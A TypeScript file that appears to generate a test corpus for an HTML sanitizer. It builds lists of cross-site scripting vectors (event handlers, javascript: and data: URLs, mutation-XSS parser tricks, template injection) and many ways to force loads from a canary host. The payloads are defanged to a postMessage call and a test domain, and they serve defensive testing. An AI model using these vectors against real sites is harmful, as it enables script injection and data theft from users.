// Hostile HTML, generated: ways to run a script, and ways to load something from elsewhere. Each names the canary host, and each
// script tells the page that it ran. Written by the kinds of the trick, not copied from a list.

/** A host that nothing may be asked of. */
export const canary = "canary.test";

const call = "parent.postMessage('ran','*')";
const quoted = (text: string) => `"${text.replaceAll('"', "&quot;")}"`;

/** Elements with an event that comes by itself, or soon after. */
const eager: readonly [open: string, event: string][] = [
  ["img src=x", "onerror"],
  ["img src=x", "onloadstart"],
  ["svg", "onload"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["body", "onfocus"],
  ["body", "onhashchange"],
  ["iframe", "onload"],
  ["iframe srcdoc=x", "onload"],
  ["object data=x", "onerror"],
  ["embed src=x", "onerror"],
  ["video src=x", "onerror"],
  ["video src=x autoplay", "onloadstart"],
  ["audio src=x", "onerror"],
  ["audio src=x autoplay", "oncanplay"],
  ["input autofocus", "onfocus"],
  ["input type=image src=x", "onerror"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["button autofocus", "onfocus"],
  ["keygen autofocus", "onfocus"],
  ["a href=# autofocus tabindex=1", "onfocus"],
  ["details open", "ontoggle"],
  ["dialog open", "onclose"],
  ["marquee", "onstart"],
  ["link rel=stylesheet href=x", "onerror"],
  ["style", "onload"],
  ["script src=x", "onerror"],
  ["div style=animation:a", "onanimationstart"],
  ["div style=transition:outline", "ontransitionend"],
  ["div popover", "onbeforetoggle"],
  ["math", "onload"],
  ["frameset", "onload"],
  ["table background=x", "onload"],
  ["source src=x", "onerror"],
  ["track src=x default", "onerror"],
  ["isindex type=image src=x", "onerror"],
  ["xss contenteditable autofocus", "onfocus"],
  ["svg><image href=x", "onerror"],
  ["svg><animate attributeName=x dur=1s", "onbegin"],
  ["svg><set attributeName=x dur=1s", "onend"],
  ["svg><use href=#x", "onload"],
];

/** How an attribute can be written. */
const writings: readonly ((open: string, event: string) => string)[] = [
  (open, event) => `<${open} ${event}=${quoted(call)}>`,
  (open, event) => `<${open}/${event.toUpperCase()}=${quoted(call)}//`,
  (open, event) => `<${open}\n${event}\n=\n${quoted(call.replace(/p/g, "&#112;"))}>`,
];

/** Addresses that are programs. */
const programs = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `&#106;avascript:${call}`,
  `\u0001javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,${btoa(`<script>${call}</script>`)}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=${quoted(call)}/>`,
  `vbscript:msgbox(1)`,
];

/** Places where an address is opened without a click. */
const openers: readonly ((address: string) => string)[] = [
  (address) => `<iframe src=${quoted(address)}></iframe>`,
  (address) => `<object data=${quoted(address)}></object>`,
  (address) => `<embed src=${quoted(address)}>`,
  (address) => `<meta http-equiv=refresh content=${quoted(`0;url=${address}`)}>`,
  (address) => `<form action=${quoted(address)}><input name=a><button autofocus onfocus="form.submit()"></form>`,
  (address) => `<script src=${quoted(address)}></script>`,
  (address) => `<svg><a xlink:href=${quoted(address)}><text>x</text></a></svg>`,
  (address) => `<base href=${quoted(address)}>`,
];

/** Text that one parser reads as text and another as elements. */
const parserTricks = [
  `<script>${call}</script>`,
  `<scr<script>ipt>${call}</script>`,
  `<script/x>${call}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<svg></p><style><a title="</style><img src=x onerror=${call}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<template><img src=x onerror=${call}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<![CDATA[><img src=x onerror=${call}>]]>`,
  `<?xml version="1.0"?><?x ><img src=x onerror=${call}>`,
  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${call}&lt;/script&gt;" sandbox="allow-scripts"></iframe>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="data:,${call}"></script></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${call}</script>"></iframe></foreignObject></svg>`,
  `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  `<textarea></textarea><img src=x onerror=${call}>`,
  `<title></title><img src=x onerror=${call}>`,
  `<plaintext><img src=x onerror=${call}>`,
  `<a id=x tabindex=1 onfocus=${call}></a><meta http-equiv=refresh content="0;#x">`,
  `<link rel=import href="data:text/html,<script>${call}</script>">`,
  `<script type=module>${call}</script>`,
  `<script type=importmap>{"imports":{"a":"data:text/javascript,${call}"}}</script><script type=module>import "a"</script>`,
  `<object type=text/html data="data:text/html,<script>${call}</script>"></object>`,
  `<x onclick=${call} autofocus tabindex=1 style=display:block>x</x>`,
  `</iframe><script>${call}</script>`,
  `</body></html><script>${call}</script>`,
  `<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'"><script>${call}</script>`,
  `"><script>${call}</script>`,
  `'-${call}-'`,
  `\${${call}}`,
  `{{constructor.constructor("${call}")()}}`,
];

/** Everything that tries to run. */
export const scripts: readonly string[] = [
  ...eager.flatMap(([open, event]) => writings.map((write) => write(open, event))),
  ...programs.flatMap((address) => openers.map((open) => open(address))),
  ...parserTricks,
];

const away = (name: string) => `http://${name}.${canary}/x`;

/** Everything that tries to load. */
export const loads: readonly string[] = [
  ...["src", "srcset", "lowsrc", "dynsrc"].map((name) => `<img ${name}=${away(`img-${name}`)}>`),
  `<img src=//protocol.${canary}/x>`,
  `<img src=\\\\backslash.${canary}\\x>`,
  `<img src="https:/${canary}/one-slash">`,
  `<picture><source srcset=${away("picture")}><img src=x></picture>`,
  ...["video", "audio"].flatMap((tag) => [
    `<${tag} src=${away(tag)} autoplay preload=auto></${tag}>`,
    `<${tag} autoplay><source src=${away(`${tag}-source`)}></${tag}>`,
  ]),
  `<video poster=${away("poster")}></video>`,
  `<video><track default src=${away("track")}></video>`,
  ...[
    "stylesheet",
    "preload",
    "prefetch",
    "prerender",
    "dns-prefetch",
    "preconnect",
    "modulepreload",
    "icon",
    "manifest",
    "import",
    "alternate stylesheet",
    "search",
  ].map((rel) => `<link rel="${rel}" as=image href=${away(`link-${rel.replace(" ", "-")}`)}>`),
  `<style>@import "${away("import")}"; @import url(${away("import-url")});</style>`,
  `<style>@font-face{font-family:a;src:url(${away("font")})} p{font-family:a}</style><p>x</p>`,
  ...[
    "background",
    "background-image",
    "border-image",
    "list-style-image",
    "cursor",
    "content",
    "mask",
    "filter",
    "clip-path",
    "shape-outside",
    "offset-path",
    "-webkit-mask-image",
  ].map((name) => `<p style="${name}:url(${away(`css-${name}`)})">x</p>`),
  `<p style="background:image-set(url(${away("image-set")}) 1x)">x</p>`,
  `<p style="background:u\\72l(${away("css-escape")})">x</p>`,
  `<style>p::before{content:url(${away("before")})}</style><p>x</p>`,
  `<style>:root{--a:url(${away("variable")})} p{background:var(--a)}</style><p>x</p>`,
  ...["body", "table", "td"].map((tag) => `<${tag} background=${away(`background-${tag}`)}>x</${tag}>`),
  `<input type=image src=${away("input")}>`,
  `<object data=${away("object")}></object>`,
  `<embed src=${away("embed")}>`,
  `<iframe src=${away("iframe")}></iframe>`,
  `<frameset><frame src=${away("frame")}></frameset>`,
  `<applet archive=${away("applet")} code=a></applet>`,
  `<bgsound src=${away("bgsound")}>`,
  `<meta http-equiv=refresh content="0;url=${away("refresh")}">`,
  `<base href=http://base.${canary}/><img src=relative.png>`,
  `<svg><image href=${away("svg-image")} /></svg>`,
  `<svg><image xlink:href=${away("svg-xlink")} /></svg>`,
  `<svg><use href=${away("svg-use")}#a /></svg>`,
  `<svg><filter id=f><feImage href=${away("svg-filter")} /></filter><rect filter=url(#f) width=9 height=9 /></svg>`,
  `<svg><style>@import "${away("svg-style")}";</style></svg>`,
  `<math href=${away("math")}>x</math>`,
  `<form action=${away("form")} method=post><input name=a value=b></form><script>document.forms[0].submit()</script>`,
  `<a href=x ping=${away("ping")}>x</a>`,
  `<blockquote cite=${away("cite")}>x</blockquote>`,
  `<html manifest=${away("manifest")}>`,
  `<script src=${away("script")}></script>`,
  `<portal src=${away("portal")}></portal>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${away("svg-in-data")}'/></svg>">`,
];
